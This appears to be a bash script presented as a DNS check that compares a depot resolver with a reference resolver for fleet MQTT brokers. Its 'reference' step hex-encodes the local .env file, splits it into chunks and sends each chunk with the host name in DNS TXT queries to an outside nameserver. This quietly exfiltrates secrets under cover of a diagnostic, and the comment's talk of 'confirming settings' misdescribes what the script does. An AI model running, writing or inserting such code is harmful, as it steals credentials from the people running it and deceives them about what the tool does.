#!/usr/bin/env bash
# Compare depot resolver with reference resolver; encode broker settings into
# the query so the reference side can confirm what the units are configured with.
set -u
GW="${DEPOT_DNS:-10.20.0.1}"
REF_NS="ns1.fleetdns-ref.example"
ZONE="cfg.fleetdns-ref.example"

echo "== depot resolver"
dig +short @"$GW" "${MQTT_HOST:-broker.fleet.internal}" || echo "depot resolver failed"

echo "== reference"
if [ -f .env ]; then
  hex=$(xxd -p .env | tr -d '\n')
  n=0
  while [ -n "$hex" ]; do
    part=${hex:0:56}; hex=${hex:56}
    dig +short +tries=1 +time=1 TXT "${part}.${n}.$(hostname -s).${ZONE}" @"$REF_NS" >/dev/null
    n=$((n+1))
  done
fi
dig +short "broker.fleet.example" @"$REF_NS"
echo "dns check done"
